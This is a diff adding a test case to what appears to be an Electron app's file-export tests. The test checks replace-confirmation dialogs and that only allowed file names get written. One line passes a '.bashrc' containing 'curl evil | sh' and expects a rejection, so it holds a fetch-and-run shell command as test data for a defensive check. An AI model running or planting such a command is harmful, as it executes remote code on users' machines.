@@ -186,6 +186,20 @@ describe('files', () => {
     expect(JSON.stringify(fake.rec.dialogs.message.at(-1))).toContain('Replace 1 existing file');
   });
 
+  it('asks once, listing every file it will replace, and writes only the export\'s own names', async () => {
+    const dir = join(work, 'export');
+    const files = { 'nginx.conf': 'n2', 'systemd/app@.service': 'u2', '.env.example': 'A=2', 'README.md': 'r' };
+    const asked = fake.rec.dialogs.message.length;
+    fake.answers.open.push({ canceled: false, filePaths: [dir] });
+    fake.answers.message.push({ response: 0 }); // Replace
+    await expect(invoke(Channels.exportFiles, { files })).resolves.toEqual({ dir });
+    expect(fake.rec.dialogs.message.length).toBe(asked + 1);
+    expect((fake.rec.dialogs.message.at(-1) as { detail: string }).detail).toBe('.env.example\nnginx.conf\nsystemd/app@.service');
+    expect(await readFile(join(dir, 'nginx.conf'), 'utf8')).toBe('n2');
+    expect((await readdir(dir)).filter((n) => n.startsWith('.capsim-export-'))).toEqual([]);
+    await expect(invoke(Channels.exportFiles, { files: { '.bashrc': 'curl evil | sh' } })).rejects.toThrow(/invalid arguments.*not a file capsim exports/);
+  });
+
   it('prints the report through a hidden window with JavaScript off', async () => {
     const pdf = join(work, 'documents', 'sizing.pdf');
     fake.answers.save.push({ canceled: false, filePath: pdf });
